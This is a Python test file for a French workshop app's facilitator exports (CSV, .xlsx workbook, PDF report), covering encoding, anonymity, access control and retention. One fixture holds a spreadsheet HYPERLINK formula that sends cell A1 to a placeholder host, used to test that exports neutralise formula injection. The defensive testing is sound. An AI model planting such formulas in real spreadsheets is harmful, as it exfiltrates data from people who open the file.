"""What the facilitator takes home: CSV files that French Excel and LibreOffice open by
double-click (`;`, UTF-8 with a byte-order mark, labels beside every code), the same tables as
an .xlsx workbook, and a one-page PDF report."""

import csv
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from sonar.workshops import actions
from tests.workshops.conftest import as_facilitator, choice_for, join

pytestmark = pytest.mark.django_db


@pytest.fixture
def answered(workshop, quiz):
    for outcome, pseudonym in (("usages", "Camille"), ("usages", ""), ("culture", "Dom")):
        person = join(workshop, pseudonym)
        for question in quiz.questions:
            actions.answer(workshop, person, question.key, choice_for(quiz, question.key, outcome))
    actions.change(workshop, revealed=True)
    return workshop


def rows(response):
    """The CSV as a spreadsheet set to French reads it: UTF-8 after its BOM, split on `;`."""
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def text_of(quiz, question_key, choice_key=None):
    question = next(q for q in quiz.questions if q.key == question_key)
    if choice_key is None:
        return question.text
    return question.choice(choice_key).text


@pytest.mark.parametrize("name", ["agregats", "participants"])
def test_a_csv_file_starts_with_a_bom_and_splits_on_semicolons(client, answered, name):
    response = as_facilitator(client, answered).get(f"/ateliers/{answered.code}/{name}.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="atelier-{answered.code}-{name}.csv"' in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    first_line = response.content.decode("utf-8-sig").split("\r\n")[0]
    # Read with the comma a French spreadsheet does not use, the header is one single cell.
    assert len(next(csv.reader([first_line]))) == 1
    assert len(next(csv.reader([first_line], delimiter=";"))) > 5
    # The accents survive the trip (UTF-8, not Windows-1252).
    assert "intitulé" in first_line


def test_the_aggregates_count_each_choice_beside_its_label(client, answered, quiz):
    response = as_facilitator(client, answered).get(f"/ateliers/{answered.code}/agregats.csv")
    table = rows(response)
    header = table[0]
    assert header == [
        "type",
        "question",
        "intitulé de la question",
        "clé",
        "intitulé",
        "profil",
        "intitulé du profil",
        "nombre",
    ]
    by_key = {row[3]: row for row in table[1:]}
    usages_choice = by_key[choice_for(quiz, "q1", "usages")]
    assert usages_choice[7] == "2"
    assert usages_choice[2] == text_of(quiz, "q1")
    assert usages_choice[4] == text_of(quiz, "q1", usages_choice[3])
    assert usages_choice[6] == quiz.outcome("usages").name
    assert by_key[choice_for(quiz, "q1", "culture")][7] == "1"
    assert (by_key["usages"][7], by_key["culture"][7], by_key["technique"][7]) == ("2", "1", "0")
    assert by_key["usages"][4] == quiz.outcome("usages").name
    assert table[-1][0] == "participants" and table[-1][7] == "3"


def test_each_participant_has_one_anonymous_row_per_question(client, answered, quiz):
    response = as_facilitator(client, answered).get(f"/ateliers/{answered.code}/participants.csv")
    table = rows(response)
    assert table[0] == [
        "participant",
        "numéro de la question",
        "question",
        "intitulé de la question",
        "réponse",
        "intitulé de la réponse",
        "profil de la réponse",
        "profil du participant",
        "intitulé du profil du participant",
    ]
    body = table[1:]
    assert len(body) == 3 * len(quiz.questions)
    assert [(row[0], row[1]) for row in body[:2]] == [("1", "1"), ("1", "2")]
    for row in body:
        # Every code has its label beside it: q1 → its text, q1a → its text.
        assert row[3] == text_of(quiz, row[2])
        assert row[5] == text_of(quiz, row[2], row[4])
    profiles = {row[0]: (row[7], row[8]) for row in body}
    assert profiles == {
        "1": ("usages", quiz.outcome("usages").name),
        "2": ("usages", quiz.outcome("usages").name),
        "3": ("culture", quiz.outcome("culture").name),
    }
    assert "Camille" not in response.content.decode("utf-8-sig")


def test_an_unanswered_question_is_a_row_with_empty_answer_cells(client, workshop, quiz):
    person = join(workshop)
    actions.answer(workshop, person, "q1", choice_for(quiz, "q1", "technique"))
    join(workshop)  # joined, answered nothing
    table = rows(
        as_facilitator(client, workshop).get(f"/ateliers/{workshop.code}/participants.csv")
    )
    body = table[1:]
    assert len(body) == 2 * len(quiz.questions)
    first = {row[2]: row for row in body if row[0] == "1"}
    assert first["q1"][6] == "technique" and first["q1"][7] == "technique"
    assert first["q2"][4:7] == ["", "", ""]
    assert {tuple(row[4:]) for row in body if row[0] == "2"} == {("", "", "", "", "")}


def test_a_tie_gives_every_leading_profile_of_the_participant(client, workshop, quiz):
    person = join(workshop)
    actions.answer(workshop, person, "q1", choice_for(quiz, "q1", "culture"))
    actions.answer(workshop, person, "q2", choice_for(quiz, "q2", "usages"))
    table = rows(
        as_facilitator(client, workshop).get(f"/ateliers/{workshop.code}/participants.csv")
    )
    names = f"{quiz.outcome('culture').name} / {quiz.outcome('usages').name}"
    assert {(row[7], row[8]) for row in table[1:]} == {("culture usages", names)}


def test_after_the_retention_period_the_participants_file_keeps_its_header_only(client, answered):
    from django.utils import timezone

    answered.purged_at = timezone.now()
    answered.kept_results = None
    answered.save()
    table = rows(
        as_facilitator(client, answered).get(f"/ateliers/{answered.code}/participants.csv")
    )
    assert len(table) == 1


def workbook(response):
    return load_workbook(io.BytesIO(response.content))


def test_the_workbook_holds_the_same_tables_as_the_csv_files(client, answered):
    facilitator = as_facilitator(client, answered)
    response = facilitator.get(f"/ateliers/{answered.code}/resultats.xlsx")
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert f'filename="atelier-{answered.code}.xlsx"' in response["Content-Disposition"]
    book = workbook(response)
    assert book.sheetnames == ["Totaux", "Participants", "À propos"]
    for sheet, name in ((book["Totaux"], "agregats"), (book["Participants"], "participants")):
        from_csv = rows(facilitator.get(f"/ateliers/{answered.code}/{name}.csv"))
        from_xlsx = [
            ["" if value is None else str(value) for value in row]
            for row in sheet.iter_rows(values_only=True)
        ]
        assert from_xlsx == from_csv


def test_the_workbook_keeps_counts_as_numbers(client, answered, quiz):
    book = workbook(
        as_facilitator(client, answered).get(f"/ateliers/{answered.code}/resultats.xlsx")
    )
    totals = {row[3]: row[7] for row in book["Totaux"].iter_rows(min_row=2, values_only=True)}
    assert totals["usages"] == 2
    assert totals[choice_for(quiz, "q1", "culture")] == 1


def test_the_workbook_says_what_it_is_and_its_licence(client, answered):
    book = workbook(
        as_facilitator(client, answered).get(f"/ateliers/{answered.code}/resultats.xlsx")
    )
    about = dict(book["À propos"].iter_rows(min_row=2, values_only=True))
    assert about["atelier"] == "Atelier d’essai"
    assert about["code"] == answered.code
    assert "Licence Ouverte 2.0" in about["licence"]
    assert "Sonar 1.0" in about["source"]


def test_the_report_is_one_pdf_page_with_the_team_profile(client, answered):
    response = as_facilitator(client, answered).get(f"/ateliers/{answered.code}/rapport.pdf")
    assert response["Content-Type"] == "application/pdf"
    pdf = PdfReader(io.BytesIO(response.content))
    assert len(pdf.pages) == 1
    page = pdf.pages[0].extract_text()
    assert "Atelier d’essai" in page
    assert "3 participants" in page
    assert "Usages" in page


@pytest.mark.parametrize("name", ["agregats.csv", "participants.csv", "resultats.xlsx"])
def test_the_exports_are_for_the_facilitator_only(client, answered, name):
    response = client.get(f"/ateliers/{answered.code}/{name}")
    assert response.status_code == 403
    assert "animer" in response.content.decode() or "anime" in response.content.decode()


HYPERLINK = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'


@pytest.fixture
def formula_workshop(workshop, quiz):
    """A choice whose wording a spreadsheet would run as a formula, chosen by a participant
    whose pseudonym is one too."""
    from sonar.quiz import data
    from sonar.quiz.models import Choice

    first = quiz.questions[0].choices[0].key
    Choice.objects.filter(question__questionnaire__key="style", key=first).update(text_fr=HYPERLINK)
    data.forget()
    person = join(workshop, HYPERLINK)
    actions.answer(workshop, person, quiz.questions[0].key, first)
    workshop.formula_choice = first
    return workshop


def test_text_starting_like_a_formula_comes_out_inert_and_numbers_stay_numbers(
    client, formula_workshop
):
    workshop = formula_workshop
    first = workshop.formula_choice
    facilitator = as_facilitator(client, workshop)

    aggregates = rows(facilitator.get(f"/ateliers/{workshop.code}/agregats.csv"))
    participants = rows(facilitator.get(f"/ateliers/{workshop.code}/participants.csv"))

    row = next(row for row in aggregates if row[3] == first)
    assert row[4] == "'" + HYPERLINK
    assert row[7] == "1"
    answered_row = next(row for row in participants if row[4] == first)
    assert answered_row[5] == "'" + HYPERLINK
    cells = [cell for table in (aggregates, participants) for row in table for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_in_the_workbook_a_formula_like_text_is_a_text_cell(client, formula_workshop):
    workshop = formula_workshop
    response = as_facilitator(client, workshop).get(f"/ateliers/{workshop.code}/resultats.xlsx")
    book = workbook(response)
    cells = [cell for row in book["Totaux"].iter_rows() for cell in row]
    typed = [cell for cell in cells if cell.value == HYPERLINK]
    assert typed and all(cell.data_type == "s" for cell in typed)
    assert not [cell for cell in cells if cell.data_type == "f"]
    # Nor is it a formula in the file itself: no <f> element anywhere.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)


def test_control_characters_in_a_label_do_not_break_the_workbook(client, workshop, quiz):
    from sonar.quiz import data
    from sonar.quiz.models import Choice

    first = quiz.questions[0].choices[0].key
    Choice.objects.filter(question__questionnaire__key="style", key=first).update(
        text_fr="Bell\x07 et 🎉 émoji"
    )
    data.forget()
    response = as_facilitator(client, workshop).get(f"/ateliers/{workshop.code}/resultats.xlsx")
    assert response.status_code == 200
    values = {row[4] for row in workbook(response)["Totaux"].iter_rows(values_only=True)}
    assert "Bell et 🎉 émoji" in values


def test_an_emoji_in_the_workshop_title_is_drawn_in_the_report(client, answered):
    from tests.core.pdf_fonts import EMOJI_FONT, emoji_images, fonts_used

    answered.title = "Atelier d’essai 🌱"
    answered.save(update_fields=["title"])
    response = as_facilitator(client, answered).get(f"/ateliers/{answered.code}/rapport.pdf")
    assert any(name.startswith(EMOJI_FONT) for name in fonts_used(response.content))
    assert emoji_images(response.content) >= 1
